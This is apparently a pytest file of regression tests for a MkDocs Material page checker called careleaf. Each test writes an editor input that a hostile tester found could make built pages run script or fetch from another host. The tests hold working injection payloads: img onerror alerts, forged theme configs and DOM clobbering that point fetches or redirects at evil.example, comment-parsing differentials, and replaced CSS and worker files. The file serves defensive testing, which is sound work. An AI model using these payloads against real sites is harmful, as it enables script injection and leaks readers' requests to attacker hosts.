"""Bypasses of the published-page judge (careleaf/published.py), found by a hostile tester.

Each test writes one editor input that, confirmed in Chromium (a dialog, or a request to
another host recorded by Playwright), makes a built page run script or fetch from another
host, and asserts what careleaf promises: the build fails with a line `path:line: rule: ...`,
or (for text the theme prints, which careleaf now escapes) the input reaches every page inert.
Each failed before the fix it names in tests/hunt/REPORT.md.
"""

from __future__ import annotations

import html
import json
import re
from dataclasses import replace
from pathlib import Path

import material
from conftest import edit, mkdocs

from careleaf.published import Policy, judge_page, theme_scripts

FINDING = re.compile(r"^(?:ERROR|WARNING)\s+-\s+(\S+):(\d+): ([a-z-]+): (.+)$", re.M)
RULES = {"html-unsafe", "external-resource"}
WORKER = next(
    (Path(material.__file__).parent / "templates/assets/javascripts/workers").glob(
        "search.*.min.js"
    )
).name
TRANSLATIONS = (
    "clipboard.copied clipboard.copy search.result.more.one search.result.more.other "
    "search.result.none search.result.one search.result.other search.result.placeholder "
    "search.result.term.missing select.version"
).split()


def _refused(project: Path, path: str) -> None:
    """The build stops, naming `path` with one of the judge's rules."""
    result = mkdocs(project, "build")
    found = {(m[1], m[3]) for m in FINDING.finditer(result.stderr)}
    assert result.returncode == 1, f"built and published:\n{result.stderr}"
    assert "Traceback" not in result.stderr
    assert any(p == path and rule in RULES for p, rule in found), result.stderr


def _refused_or_inert(project: Path, path: str) -> None:
    """The build stops naming `path`, or what was written reaches every page as text: no
    page, parsed as a browser parses it, holds anything that runs or fetches elsewhere."""
    result = mkdocs(project, "build")
    assert "Traceback" not in result.stderr
    if result.returncode != 0:
        found = {(m[1], m[3]) for m in FINDING.finditer(result.stderr)}
        assert any(p == path and rule in RULES for p, rule in found), result.stderr
        return
    templates = Path(material.__file__).parent / "templates"
    policy = Policy(
        site_host="test.example",
        scripts=theme_scripts([project / "overrides", templates]),
        script_files=frozenset(
            f.relative_to(project / "site").as_posix() for f in (project / "site").rglob("*.js")
        ),
    )
    for page in (project / "site").rglob("*.html"):
        bad = judge_page(page.read_text(), replace(policy, page=_url(project, page)))
        assert bad == [], (page, bad)


def _url(project: Path, page: Path) -> str:
    path = page.relative_to(project / "site").as_posix()
    return path.removesuffix("index.html")


def _page(project: Path, name: str, text: str) -> None:
    (project / "docs" / name).write_text(text)
    with (project / "mkdocs.yml").open("a") as f:
        f.write(f"nav:\n  - index.md\n  - {name}\n")


def _forged_config(base: str, version: object, say: str) -> str:
    """Material's `__config`, as a page's `<title>` may carry it ahead of the real one."""
    return json.dumps(
        {
            "base": base,
            "features": [],
            "search": f"../assets/javascripts/workers/{WORKER}",
            "tags": None,
            "translations": dict.fromkeys(TRANSLATIONS, say),
            "version": version,
        },
        separators=(",", ":"),
    )


def _h1_breaking_title(inner: str) -> str:
    """A page heading written as text (entities): MkDocs makes it the page's title and
    Material writes `{{ page.title | striptags }}` into `<title>`, where `striptags` turns
    the entities back into markup (`&lt;/title&gt;` closes the title)."""
    text = html.escape(f"</title>{inner}<title>", quote=False)
    return text.replace('"', "&quot;").replace("#", "&#35;")


# Chromium: every page (home, treatments) requests
# https://api.github.com/repos/squidfunk/mkdocs-material and .../releases/latest.
# The page's title reaches the header and the navigation unescaped, in the theme's frame,
# where `data-md-*` attributes are allowed; Material's `source` component fetches a
# repository's facts from GitHub for any `[data-md-component=source]` (what `repo_url`
# does, which careleaf refuses).
SOURCE = (
    '<a href="https://github.com/squidfunk/mkdocs-material" data-md-component="source">'
    "<span>x</span></a>"
)


def test_home_page_title_with_a_source_component_fetches_from_github(project):
    (project / "docs/index.md").write_text(
        f"---\ntitle: '{SOURCE}'\n---\n# Test Clinic\n\nA test site.\n"
    )
    _refused_or_inert(project, "docs/index.md")


# Chromium, on about/: requests https://evil.example/versions.json as the page loads, and
# https://evil.example/x/search/search_index.json when search opens. The heading ends
# `<title>` and writes a data script `#__config` (a data script with only `id` and `type` is
# never judged); Material reads the first `#__config` on the page.
def test_page_heading_forges_the_theme_config_to_fetch_from_another_host(project):
    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
    inner = f'<script id="__config" type="application/json">{config}</script>'
    _page(project, "about.md", f"# About {_h1_breaking_title(inner)}\n\nAbout us.\n")
    _refused(project, "docs/about.md")


# Chromium, on about/: press `s`, type `peel`: alert(document.domain) runs (4 dialogs).
# Material writes its translations into search results with innerHTML.
def test_page_heading_forges_the_theme_config_to_run_script(project):
    config = _forged_config("..", None, "<img src=x onerror=alert(document.domain)>")
    inner = f'<script id="__config" type="application/json">{config}</script>'
    _page(
        project,
        "about.md",
        f"# About {_h1_breaking_title(inner)}\n\nAbout the peel.\n\n## Peel again\n\nPeel.\n",
    )
    _refused(project, "docs/about.md")


# Material's `content.tooltips` (the sample site turns it on) shows an abbreviation's `title`
# through innerHTML (`Cn(title)` -> `h()` -> `innerHTML +=`), and the judge never reads a
# `title` attribute's value. Chromium, on treatments/test-peel/, hovering the abbreviation:
# alert('glossary') runs.
TOOLTIPS = ("  font: false\n", "  font: false\n  features: [content.tooltips]\n")


def _with_tooltips(project: Path) -> None:
    edit(project, *TOOLTIPS, path="mkdocs.yml")


def test_glossary_definition_runs_script_in_its_tooltip(project):
    _with_tooltips(project)
    (project / "docs/glossary.yml").write_text(
        "Peel: A wash <img src=x onerror=alert('glossary')> for skin.\n"
    )
    _refused(project, "docs/glossary.yml")


def test_glossary_definition_written_with_entities_runs_script_in_its_tooltip(project):
    _with_tooltips(project)
    (project / "docs/glossary.yml").write_text(
        "Peel: A wash &lt;img src=x onerror=alert('glossary')&gt; for skin.\n"
    )
    _refused(project, "docs/glossary.yml")


def test_abbreviation_in_a_treatment_runs_script_in_its_tooltip(project):
    _with_tooltips(project)
    with (project / "docs/treatments/test-peel.md").open("a") as f:
        f.write("\nThe PEEL is good.\n\n*[PEEL]: &lt;img src=x onerror=alert(1)&gt;\n")
    _refused(project, "docs/treatments/test-peel.md")


def test_abbr_title_in_raw_html_runs_script_in_its_tooltip(project):
    _with_tooltips(project)
    with (project / "docs/treatments/test-peel.md").open("a") as f:
        f.write('\nThe <abbr title="&lt;img src=x onerror=alert(1)&gt;">PEEL</abbr> is good.\n')
    _refused(project, "docs/treatments/test-peel.md")


# The same tooltip fetches from another host: Chromium requests https://evil.example/t.png
# when the reader hovers the word.
def test_glossary_definition_fetches_from_another_host_in_its_tooltip(project):
    _with_tooltips(project)
    (project / "docs/glossary.yml").write_text(
        "Peel: A wash <img src=https://evil.example/t.png alt=x> for skin.\n"
    )
    _refused(project, "docs/glossary.yml")


# Chromium, on the home page: requests api.github.com/repos/squidfunk/mkdocs-material (and
# .../releases/latest). Material writes `<meta name="description" content="{{
# page.meta.description }}">` unescaped: the description closes the attribute and the tag
# and writes markup into the frame (the head ends, the markup starts the body).
def test_home_page_description_breaks_out_of_its_meta_tag(project):
    description = f'A clinic">{SOURCE}<meta name="x'
    (project / "docs/index.md").write_text(
        f"---\ndescription: '{description}'\n---\n# Test Clinic\n\nA test site.\n"
    )
    _refused_or_inert(project, "docs/index.md")


# Chromium, on treatments/test-peel/: requests https://evil.example/p.svg and
# https://evil.example/s.svg. SVG presentation attributes `fill` and `stroke` are allowed on
# shapes and their `url()` is never judged as CSS (only `style` is).
def test_svg_fill_and_stroke_fetch_a_paint_server_from_another_host(project):
    edit(
        project,
        "Redness for a day.",
        'Redness.\n\n<svg width="10" height="10"><rect width="10" height="10" '
        'fill="url(https://evil.example/p.svg#g)" stroke="url(https://evil.example/s.svg#g)"/>'
        "</svg>\n",
    )
    _refused(project, "docs/treatments/test-peel.md")


# Files an editor drops into docs/ are published as they are; the judge reads only the pages
# MkDocs renders from Markdown and the theme's templates.
THEME_ASSETS = Path(material.__file__).parent / "templates/assets"


# Chromium, at /info.html (same origin as the clinic's pages): alert('static-html') runs.
def test_html_file_in_docs_is_published_with_its_script(project):
    (project / "docs/info.html").write_text(
        "<!doctype html><title>Info</title><script>alert('static-html')</script>"
    )
    _refused(project, "docs/info.html")


# Chromium, at /pic.svg: alert('svg') runs (an SVG opened as a document runs its scripts).
def test_svg_file_in_docs_is_published_with_its_script(project):
    (project / "docs/pic.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert('svg')</script></svg>"
    )
    _refused(project, "docs/pic.svg")


# Chromium, on treatments/test-peel/, pressing `s` and typing: requests
# https://evil.example/worker. A file in docs/ at the theme's path replaces the theme's file;
# Material starts its search worker from `__config.search` (`new Worker(...)`), never a
# `<script src>` the judge would see.
def test_search_worker_replaced_from_docs_runs_the_editors_script(project):
    worker = next((THEME_ASSETS / "javascripts/workers").glob("search.*.min.js")).name
    path = f"docs/assets/javascripts/workers/{worker}"
    (project / path).parent.mkdir(parents=True)
    (project / path).write_text("fetch('https://evil.example/worker');\n")
    _refused(project, path)


# Chromium, on every page: requests https://evil.example/i.css and .../b.png. The theme's
# stylesheet replaced from docs/ is linked by `<link rel=stylesheet>` at the site's own path;
# the CSS inside is never read.
def test_theme_stylesheet_replaced_from_docs_fetches_from_another_host(project):
    css = next((THEME_ASSETS / "stylesheets").glob("main.*.min.css")).name
    path = f"docs/assets/stylesheets/{css}"
    (project / path).parent.mkdir(parents=True)
    (project / path).write_text(
        "@import url(https://evil.example/i.css);body{background:url(https://evil.example/b.png)}\n"
    )
    _refused(project, path)


# Material's own inline scripts are allowed anywhere in the frame, and the heading route
# above writes any of them. Chromium, on about/: requests
# https://www.googletagmanager.com/gtag/js?id=G-X and runs Google's script (Material's
# analytics template, its gap filled with an id).
def test_page_heading_writes_the_themes_analytics_script(project):
    template = Path(material.__file__).parent / "templates/partials/integrations/analytics"
    analytics = re.search(
        r'<script id="__analytics">.*?</script>', (template / "google.html").read_text(), re.S
    )
    assert analytics is not None
    call = '<script>"undefined"!=typeof __md_analytics&&__md_analytics()</script>'
    inner = analytics[0].replace("{{ property }}", "G-X") + call
    _page(project, "about.md", f"# About {_h1_breaking_title(inner)}\n\nAbout us.\n")
    _refused(project, "docs/about.md")


# Chromium, on about/: the page goes to https://evil.example/ as it loads (Material's
# redirect template's script, its gap filled with another host's address).
def test_page_heading_writes_the_themes_redirect_script(project):
    inner = (
        '<script>window.location.replace(["https://evil.example/",window.location.search,'
        'window.location.hash].join(""))</script>'
    )
    _page(project, "about.md", f"# About {_h1_breaking_title(inner)}\n\nAbout us.\n")
    _refused(project, "docs/about.md")


# Chromium, on about/: requests api.github.com/repos/squidfunk/mkdocs-material. Material
# writes `<meta name="author" content="{{ page.meta.author }}">` unescaped.
def test_page_author_breaks_out_of_its_meta_tag(project):
    author = f'Nurse">{SOURCE}<meta name="x'
    _page(project, "about.md", f"---\nauthor: '{author}'\n---\n# About\n\nAbout us.\n")
    _refused_or_inert(project, "docs/about.md")


# Chromium, on treatments/test-peel/, hovering 'peel': alert(1) runs. A line break in the
# summary starts a Markdown abbreviation definition in the treatment's page; its title is
# shown through the tooltip's innerHTML.
def test_treatment_summary_with_a_line_break_defines_an_abbreviation(project):
    _with_tooltips(project)
    edit(
        project,
        "summary: A mild peel used only in careleaf's tests.",
        'summary: "A mild wash.\\n\\n*[Peel]: &lt;img src=x onerror=alert(1)&gt;\\n\\nFor skin."',
    )
    _refused_or_inert(project, "docs/treatments/test-peel.md")


# Chromium, on about/, with no hover: alert(5) runs as the page loads. The page's title is
# written into the header, and Material (content.tooltips) makes every `[title]` in the
# header a tooltip at once, through innerHTML.
def test_page_title_with_a_title_attribute_runs_script_in_the_header(project):
    _with_tooltips(project)
    title = 'About <span title="&lt;img src=x onerror=alert(5)&gt;">us</span>'
    _page(project, "about.md", f"---\ntitle: '{title}'\n---\n# About\n\nAbout us.\n")
    _refused_or_inert(project, "docs/about.md")


def _disable_early_warning(project: Path) -> None:
    """As tests/test_published.py does: the source check off, the published page judged."""
    edit(
        project,
        "  - careleaf\n",
        "  - careleaf:\n      checks:\n        disable: [html-unsafe]\n",
        path="mkdocs.yml",
    )


def _content_config() -> str:
    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
    return f'<script id="__config" type="application/json">{config}</script>'


# A data script (`type="application/json"`, only `id` and `type`) is let through anywhere,
# the article included, and Material reads the first `#__config` of the page: the one in the
# content comes before the theme's. Chromium, on treatments/test-peel/: requests
# https://evil.example/versions.json (and .../x/search/search_index.json when search opens).
def test_data_script_in_a_treatments_body_forges_the_theme_config(project):
    _disable_early_warning(project)
    edit(project, "Redness for a day.", f"Redness for a day.\n\n{_content_config()}\n")
    _refused(project, "docs/treatments/test-peel.md")


# The same with the early warning on: Python's HTMLParser reads `<![CDATA[ ... ]]>` as one
# marked section, a browser (and lexbor) ends the bogus comment at the first `>`. The build
# publishes with only an `html-comment` warning; Chromium requests
# https://evil.example/versions.json.
def test_cdata_section_hides_a_forged_config_from_the_early_warning(project):
    edit(
        project,
        "Redness for a day.",
        f"Redness for a day.\n\n<![CDATA[ x > {_content_config()} ]]>\n",
    )
    _refused(project, "docs/treatments/test-peel.md")


# As above with `--!>`, which ends a comment in a browser but not in Python's HTMLParser.
def test_bang_comment_end_hides_a_forged_config_from_the_early_warning(project):
    edit(
        project,
        "Redness for a day.",
        f"Redness for a day.\n\n<!-- x --!> {_content_config()} -->\n",
    )
    _refused(project, "docs/treatments/test-peel.md")


# DOM clobbering, no script element at all: Material reads its configuration as
# `JSON.parse(document.querySelector("#__config").textContent)`, and any element may carry
# `id`. A `<pre id="__config">` in a treatment's body comes before the theme's own. Passes
# `mkdocs build --strict` with no warning.
# Chromium, on treatments/test-peel/: requests https://evil.example/versions.json as the page
# loads, and https://evil.example/x/search/search_index.json when search opens.
def test_element_with_the_theme_config_id_fetches_from_another_host(project):
    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
    edit(project, "Redness for a day.", f'Redness.\n\n<pre hidden id="__config">{config}</pre>\n')
    _refused(project, "docs/treatments/test-peel.md")


# Chromium, on treatments/test-peel/, press `s`, type `peel`: alert(document.domain) runs
# (Material writes its translations into the results with innerHTML).
def test_element_with_the_theme_config_id_runs_script(project):
    config = _forged_config(
        "../..", None, "&lt;img src=x onerror=alert(document.domain)&gt;"
    ).replace("../assets", "../../assets")
    edit(project, "Redness for a day.", f'Redness.\n\n<pre hidden id="__config">{config}</pre>\n')
    _refused(project, "docs/treatments/test-peel.md")


# The same in plain Markdown: a paragraph given the id by an attribute list.
def test_markdown_paragraph_with_the_theme_config_id_fetches_from_another_host(project):
    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
    edit(project, "Redness for a day.", f"Redness.\n\n{config}\n{{: #__config hidden }}\n")
    _refused(project, "docs/treatments/test-peel.md")


# site_name is written unescaped into the header (and into the logo's aria-label, which
# single quotes leave whole). Chromium, on every page: requests
# api.github.com/repos/squidfunk/mkdocs-material.
def test_site_name_with_a_source_component_fetches_from_github(project):
    source = (
        "<a href='https://github.com/squidfunk/mkdocs-material' data-md-component='source'>"
        "<span>x</span></a>"
    )
    edit(project, "site_name: Test Clinic", f'site_name: "Test {source}"', path="mkdocs.yml")
    _refused_or_inert(project, "mkdocs.yml")


# Chromium, on every page, with no hover: alert(3) runs (content.tooltips makes the header's
# `[title]` a tooltip through innerHTML as the page loads).
def test_site_name_with_a_title_attribute_runs_script_on_every_page(project):
    _with_tooltips(project)
    name = "Test <span title='&lt;img src=x onerror=alert(3)&gt;'>Clinic</span>"
    edit(project, "site_name: Test Clinic", f'site_name: "{name}"', path="mkdocs.yml")
    _refused_or_inert(project, "mkdocs.yml")
